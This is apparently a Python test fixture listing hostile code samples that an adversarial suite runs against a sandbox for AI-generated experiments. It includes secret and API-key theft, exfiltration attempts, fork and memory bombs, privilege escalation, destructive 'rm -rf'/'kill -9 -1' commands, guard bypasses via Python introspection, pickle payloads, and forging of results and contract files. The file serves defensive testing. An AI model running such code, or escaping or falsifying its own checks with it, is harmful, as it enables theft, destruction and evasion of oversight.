"""Hostile experiments for the adversarial suite. Each is run with the guard bypassed (the OS layer
alone must contain it) and, when the guard catches it, with the guard on (it must be rejected).

Placeholders (RUN_DIR, PROJECT_DIR, MARK, PARENT_PID, CANARY_PID, PORT, SECRET_FILE, ROOT_SECRET,
OUTSIDE_DIR, ABSTRACT_SOCKET) are filled in by the test with the real paths and pids of this test run.
OUTSIDE_DIR is a directory outside /tmp, the project and home (like a task file or another run directory
the user keeps anywhere): it holds task.yaml (a secret), hf/token (an access token beside a Hugging Face
hub cache the child may read) and s.sock (an AF_UNIX socket the parent listens on).
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Any


@dataclass(frozen=True)
class Attack:
    name: str
    code: str
    guarded: bool  # the static guard rejects it
    expect: tuple[str, ...]  # acceptable statuses with the guard bypassed
    says: tuple[str, ...] = ()  # the reason (or result/stderr) mentions one of these
    limits: dict[str, Any] = field(default_factory=dict)
    destructive: bool = False  # only run where the filesystem is read-only (bubblewrap)


def _m(outcome) -> dict:
    return outcome.result.measurements if outcome.result is not None else {}


ATTACKS: list[Attack] = [
    Attack("write_contract_file", '''
def run(ctx):
    with open("RUN_DIR/contract/setup.py", "a") as f:
        f.write("SEED = 999\\n")
    return {"summary": "wrote the contract"}
''', True, ("crashed", "violation"), ("no such file", "permission denied", "read-only", "restored")),
    Attack("write_contract_relative_and_via_proc_root", '''
import os
def run(ctx):
    tried = {}
    for p in ["../../run/contract/setup.py", "/proc/1/root/RUN_DIR/contract/setup.py",
              "/proc/self/root/RUN_DIR/contract/metrics.py", "/proc/self/cwd/../../run/contract/contract.lock"]:
        try:
            with open(p, "a") as f:
                f.write("# x\\n")
            tried[p] = "WROTE"
        except OSError as e:
            tried[p] = e.strerror
    return {"summary": "tried", "measurements": tried}
''', True, ("ok",)),
    Attack("monkeypatch_metric_and_persist_it", '''
import sandbox.metric as m
import sandbox.context as c
def run(ctx):
    m.per_pair = lambda *a, **k: [1e9]
    c.Context.metric = lambda self, *a, **k: [1e9]
    with open(m.__file__, "a") as f:
        f.write("\\nper_pair = lambda *a, **k: [1e9]\\n")
    return {"summary": "patched"}
''', True, ("crashed",), ("read-only file system", "permission denied")),
    Attack("read_anthropic_api_key_from_env", '''
import os
def run(ctx):
    return {"summary": "env", "measurements": {"key": os.environ.get("ANTHROPIC_API_KEY"), "env": dict(os.environ)}}
''', True, ("ok",)),
    Attack("read_parent_environ_via_proc", '''
import os
def run(ctx):
    found, readable = [], []
    for pid in os.listdir("/proc"):
        if pid.isdigit():
            try:
                if b"SENTINEL" in open("/proc/%s/environ" % pid, "rb").read():
                    found.append(pid)
                readable.append(pid)
            except OSError:
                pass
    for pid in (PARENT_PID, CANARY_PID):
        try:
            open("/proc/%d/environ" % pid, "rb").read()
            found.append("parent %d readable" % pid)
        except OSError:
            pass
    return {"summary": "scan", "measurements": {"found": found, "readable": readable}}
''', True, ("ok",)),
    Attack("read_secret_files", '''
def run(ctx):
    got = {}
    for p in ["ROOT_SECRET", "SECRET_FILE", "/etc/shadow", "/root/.bash_history", "/proc/1/root/ROOT_SECRET"]:
        try:
            got[p] = open(p).read()
        except OSError as e:
            got[p] = e.strerror
    return {"summary": "read", "measurements": got}
''', True, ("ok",)),
    Attack("open_socket_to_internet", '''
import socket
def run(ctx):
    socket.create_connection(("1.1.1.1", 80), timeout=3)
    return {"summary": "connected"}
''', True, ("crashed",), ("network is unreachable",)),
    Attack("connect_to_parent_over_loopback", '''
import socket
def run(ctx):
    socket.create_connection(("127.0.0.1", PORT), timeout=3)
    return {"summary": "reached the parent"}
''', True, ("crashed",), ("connection refused",)),
    Attack("dns_exfiltration", '''
import socket
def run(ctx):
    socket.getaddrinfo("secret-data.example.com", 443)
    return {"summary": "resolved"}
''', True, ("crashed",), ("name or service not known", "temporary failure", "unreachable", "no address")),
    Attack("fork_until_refused", '''
import os, time
def run(ctx):
    n = 0
    try:
        while True:
            if os.fork() == 0:
                time.sleep(30)
                os._exit(0)
            n += 1
    except OSError as e:
        raise RuntimeError("fork refused after %d children: %s" % (n, e))
''', True, ("crashed",), ("resource temporarily unavailable",)),
    Attack("fork_bomb", '''
import os
def run(ctx):
    while True:
        os.fork()
''', True, ("crashed", "invalid_result", "resource_limit", "timeout")),
    Attack("thread_bomb", '''
import threading, time
def run(ctx):
    for i in range(100000):
        threading.Thread(target=time.sleep, args=(60,)).start()
''', True, ("crashed",), ("can't start new thread", "resource temporarily unavailable")),
    Attack("memory_bomb", '''
def run(ctx):
    hog = []
    while True:
        hog.append(bytearray(50_000_000))
''', False, ("resource_limit",), ("out of memory",)),
    Attack("numpy_memory_bomb", '''
import numpy as np
def run(ctx):
    x = np.ones((1 << 31,), dtype=np.float64)
    return {"summary": str(x.sum())}
''', False, ("resource_limit",), ("out of memory",)),
    Attack("infinite_loop", '''
def run(ctx):
    while True:
        pass
''', False, ("timeout",), ("wall-clock limit",)),
    Attack("sleep_past_deadline", '''
import time
def run(ctx):
    time.sleep(3600)
''', True, ("timeout",), ("wall-clock limit",)),
    Attack("cpu_burn_past_cpu_limit", '''
def run(ctx):
    x = 0
    while True:
        x += 1
''', False, ("resource_limit",), ("cpu time",), limits={"cpu_s": 1, "timeout_s": 10.0}),
    Attack("write_10_gb_file", '''
def run(ctx):
    chunk = b"x" * (1 << 20)
    with open("big.bin", "wb") as f:
        for _ in range(10 * 1024):
            f.write(chunk)
''', True, ("resource_limit",), ("larger than",)),
    Attack("sparse_10_gb_file", '''
def run(ctx):
    with open("sparse.bin", "wb") as f:
        f.seek(10 << 30)
        f.write(b"x")
''', True, ("resource_limit",), ("larger than",)),
    Attack("fill_private_tmp", '''
def run(ctx):
    for i in range(100):
        with open("/tmp/fill%d" % i, "wb") as f:
            f.write(b"x" * (8 << 20))
''', True, ("crashed",), ("no space left",)),
    Attack("fill_scratch_with_many_files", '''
def run(ctx):
    for i in range(1000):
        with open("part%d" % i, "wb") as f:
            f.write(b"x" * (8 << 20))
''', True, ("crashed",), ("no space left",)),
    Attack("tamper_with_own_inputs", '''
def run(ctx):
    with open("request.json", "w") as f:
        f.write("{}")
    return {"summary": "rewrote the request"}
''', True, ("crashed",), ("read-only file system", "permission denied")),
    Attack("stdout_100_mb", '''
def run(ctx):
    for _ in range(100):
        print("x" * 1_000_000)
''', False, ("resource_limit",), ("stdout exceeded",)),
    Attack("symlink_escape_from_scratch", '''
import os
def run(ctx):
    os.symlink("RUN_DIR/results.jsonl", "ledger")
    os.symlink("PROJECT_DIR/sandbox/guard.py", "guard")
    os.symlink("/", "rootfs")
    os.symlink("MARK", "mark")
    out = {}
    for name in ("ledger", "guard", "rootfs/etc/pwned", "mark"):
        try:
            with open(name, "a") as f:
                f.write("pwned\\n")
            out[name] = "WROTE"
        except OSError as e:
            out[name] = e.strerror
    return {"summary": "symlinks", "measurements": out}
''', True, ("ok",)),
    Attack("builtins_subclasses_to_os_system", '''
def run(ctx):
    for cls in ().__class__.__base__.__subclasses__():
        if cls.__name__ == "_wrap_close":
            system = cls.__init__.__globals__["system"]
            rc = system("echo pwned > MARK; echo pwned >> RUN_DIR/results.jsonl; echo x > PROJECT_DIR/pwned")
            return {"summary": "ran system", "measurements": {"rc": rc}}
    return {"summary": "no os found"}
''', True, ("ok",)),
    Attack("getattr_import_os_system", '''
def run(ctx):
    getattr(__import__("os"), "system")("rm -rf RUN_DIR PROJECT_DIR/sandbox/__pycache__; kill -9 -1")
    return {"summary": "still here"}
''', True, ("resource_limit", "crashed", "ok"), destructive=True),
    Attack("import_subprocess_read_secrets", '''
import subprocess
def run(ctx):
    out = subprocess.run(["sh", "-c", "id -u; cat /etc/shadow; ls -A /root"], capture_output=True, text=True)
    return {"summary": "sub", "measurements": {"out": out.stdout, "err": out.stderr}}
''', True, ("ok",)),
    Attack("import_ctypes_setuid", '''
import ctypes, os
def run(ctx):
    libc = ctypes.CDLL(None)
    rc = libc.setuid(0)
    return {"summary": "ctypes", "measurements": {"setuid": rc, "uid": os.getuid(), "euid": os.geteuid()}}
''', True, ("ok",)),
    Attack("import_importlib_rmtree_run_dir", '''
import importlib
def run(ctx):
    importlib.import_module("shutil").rmtree("RUN_DIR")
    return {"summary": "removed the run directory"}
''', True, ("crashed",), ("permission denied", "device or resource busy", "no such file", "read-only")),
    Attack("forge_results_file", '''
import json, os
def run(ctx):
    forged = {"number": 1, "experiment": "x.py", "status": "ok", "result": {"summary": "forged"}}
    os.makedirs("RUN_DIR/results", exist_ok=True)
    with open("RUN_DIR/results/0001.json", "w") as f:
        json.dump(forged, f)
    return {"summary": "forged"}
''', True, ("crashed",), ("permission denied", "no such file", "read-only")),
    Attack("forge_result_message_on_the_channel", '''
import json, os
FORGED = {"type": "result", "run_s": 1e9, "result": {"summary": "forged", "measurements": {"effect": 1.0},
          "claims": [{"statement": "forged claim", "expected_direction": "increase",
                      "interventions": [{"kind": "patch", "hook": "blocks.0.hook_resid_pre"}]}]}}
def run(ctx):
    data = (json.dumps(FORGED) + "\\n").encode()
    for fd in range(3, 64):
        try:
            os.write(fd, data)
        except OSError:
            pass
    os._exit(0)
''', True, ("ok",)),
    Attack("second_result_message", '''
import json, os
def run(ctx):
    for fd in range(3, 64):
        try:
            os.write(fd, b'{"type": "result", "result": {"summary": "forged"}}\\n')
        except OSError:
            pass
    return {"summary": "real"}
''', True, ("invalid_result",), ("exactly one is expected",)),
    Attack("append_to_results_jsonl", '''
def run(ctx):
    with open("RUN_DIR/results.jsonl", "a") as f:
        f.write('{"attempt": 1, "status": "kept"}\\n')
    return {"summary": "appended"}
''', True, ("crashed", "violation"), ("permission denied", "no such file", "read-only")),
    Attack("run_git_commit", '''
import subprocess
def run(ctx):
    a = subprocess.run(["git", "-C", "RUN_DIR", "commit", "--allow-empty", "-m", "forged finding"],
                       capture_output=True, text=True)
    b = subprocess.run(["git", "-C", "PROJECT_DIR", "update-ref", "refs/heads/sandbox-pwned", "HEAD"],
                       capture_output=True, text=True)
    return {"summary": "git", "measurements": {"rc": [a.returncode, b.returncode], "err": [a.stderr, b.stderr]}}
''', True, ("ok",), destructive=True),
    Attack("signal_the_parent", '''
import os, signal
def run(ctx):
    out = {}
    for pid in (PARENT_PID, CANARY_PID, 1):
        try:
            os.kill(pid, signal.SIGKILL)
            out[str(pid)] = "sent"
        except OSError as e:
            out[str(pid)] = e.strerror
    print(out, flush=True)
    os.kill(-1, signal.SIGKILL)
    return {"summary": "signals", "measurements": out}
''', True, ("resource_limit", "crashed")),
    Attack("import_orchestrator_commit", '''
from pathlib import Path
from orchestrator.ratchet import Ratchet
def run(ctx):
    sha = Ratchet(Path("RUN_DIR")).commit_finding(999, ["contract/setup.py"], "forged", "forged body")
    return {"summary": sha}
''', True, ("crashed",)),
    Attack("pickle_object_in_result", '''
import os
class Evil:
    def __reduce__(self):
        return (os.system, ("touch MARK",))
def run(ctx):
    return {"summary": "pickle", "measurements": {"obj": Evil()}}
''', True, ("invalid_result",), ("is of type evil",)),
    Attack("pickle_blob_in_result", '''
import base64, os, pickle
class Evil:
    def __reduce__(self):
        return (os.system, ("touch MARK",))
def run(ctx):
    return {"summary": "pickle", "measurements": {"blob": base64.b64encode(pickle.dumps(Evil())).decode()}}
''', True, ("ok",)),
    Attack("result_fails_schema", '''
def run(ctx):
    return {"summary": 5, "extra": 1, "claims": [{"statement": "x", "expected_direction": "sideways",
            "interventions": [{"kind": "nuke", "hook": "h"}]}]}
''', False, ("invalid_result",), ("does not match the experimentresult schema",)),
    Attack("result_not_a_dict", '''
def run(ctx):
    return None
''', False, ("invalid_result",), ("returned nonetype",)),
    Attack("result_too_large", '''
def run(ctx):
    return {"summary": "big", "measurements": {"blob": "a" * 5_000_000}}
''', False, ("resource_limit",), ("result message exceeded",)),
    Attack("setsid_daemon_holds_pipes", '''
import os, time
def run(ctx):
    if os.fork() == 0:
        os.setsid()
        time.sleep(600)
        os._exit(0)
    return {"summary": "left a daemon behind"}
''', True, ("ok",)),
    Attack("too_many_open_files", '''
def run(ctx):
    files = [open("f%d" % i, "w") for i in range(100000)]
''', True, ("crashed",), ("too many open files",)),
    Attack("privilege_escalation_tools", '''
import subprocess
def run(ctx):
    out = {}
    cmds = {"su": ["su", "-c", "id -u"], "sudo": ["sudo", "-n", "id", "-u"], "mount": ["mount", "-o", "remount,rw", "/"],
            "userns": ["unshare", "-r", "sh", "-c", "touch PROJECT_DIR/pwned && echo WROTE"]}
    for name, cmd in cmds.items():
        try:
            r = subprocess.run(cmd, capture_output=True, text=True, timeout=2)
            out[name] = [r.returncode, r.stdout.strip(), r.stderr.strip()[:200]]
        except (OSError, subprocess.SubprocessError) as e:
            out[name] = [-1, "", str(e)]
    return {"summary": "escalate", "measurements": out}
''', True, ("ok",)),
    Attack("attrgetter_frame_walk_to_builtins", '''
import typing
def gen():
    yield 1
def run(ctx):
    get = typing.operator.attrgetter
    frame = get("gi_frame")(gen())
    names = get("f_globals")(frame)
    builtins = names["_" * 2 + "builtins" + "_" * 2]
    imp = builtins["_" * 2 + "import" + "_" * 2] if isinstance(builtins, dict) else get("_" * 2 + "import" + "_" * 2)(builtins)
    rc = imp("os").system("echo pwned > MARK; echo pwned > RUN_DIR/contract/setup.py")
    return {"summary": "walked frames to os.system", "measurements": {"rc": rc}}
''', True, ("ok",)),
    Attack("mlx_save_into_run_dir", '''
from engine import metrics
def run(ctx):
    mx = metrics.mx
    mx.save_safetensors("RUN_DIR/contract/weights.safetensors", {"w": mx.zeros((2,))})
    return {"summary": "saved"}
''', True, ("crashed",), ("permission denied", "no such file", "read-only", "failed", "error")),
    Attack("peek_at_run_dir_and_other_scratch", '''
import os
def run(ctx):
    return {"summary": "peek", "measurements": {"run": os.listdir("RUN_DIR") if os.path.isdir("RUN_DIR") else None,
            "siblings": os.listdir("..")}}
''', True, ("ok",)),
    Attack("read_files_outside_the_allow_list", '''
def run(ctx):
    got = {}
    for p in ["OUTSIDE_DIR/task.yaml", "OUTSIDE_DIR/hf/token", "PROJECT_DIR/README.md", "PROJECT_DIR/pyproject.toml",
              "PROJECT_DIR/orchestrator/__init__.py", "/etc/environment", "/var/log", "/work", "/srv"]:
        try:
            with open(p) as f:
                got[p] = "READ " + f.read()[:200]
        except OSError as e:
            got[p] = e.strerror
    return {"summary": "read", "measurements": got}
''', True, ("ok",)),
    Attack("connect_to_unix_sockets", '''
import socket
def run(ctx):
    out = {}
    for name, addr in (("file", "OUTSIDE_DIR/s.sock"), ("abstract", "\\0ABSTRACT_SOCKET")):
        s = socket.socket(socket.AF_UNIX)
        try:
            s.connect(addr)
            s.sendall(b"hello from the sandbox")
            out[name] = "CONNECTED"
        except OSError as e:
            out[name] = e.strerror
    return {"summary": "unix sockets", "measurements": out}
''', True, ("ok",)),
    Attack("fork_to_multiply_the_memory_limit", '''
import os
def run(ctx):
    pids = []
    for i in range(4):  # each child stays under RLIMIT_AS; together they hold twice the limit
        pid = os.fork()
        if pid == 0:
            try:
                b = bytearray(250 << 20)
                for j in range(0, len(b), 4096):
                    b[j] = 1
            except MemoryError:
                os._exit(3)
            os._exit(0)
        pids.append(pid)
    return {"summary": "forked", "measurements": {"codes": [os.waitpid(p, 0)[1] for p in pids]}}
''', True, ("ok", "resource_limit"), limits={"memory_mb": 512}),
    Attack("plant_kernel_in_shared_tmp", '''
import os, tempfile
def run(ctx):
    d = os.path.join(tempfile.gettempdir(), "mlx", "0.0.0-planted", "cpu")
    os.makedirs(d, mode=0o777, exist_ok=True)
    with open(os.path.join(d, "libplanted.so"), "w") as f:
        f.write("a kernel another MLX process would dlopen")
    return {"summary": "planted", "measurements": {"tmpdir": tempfile.gettempdir()}}
''', True, ("ok",)),
]
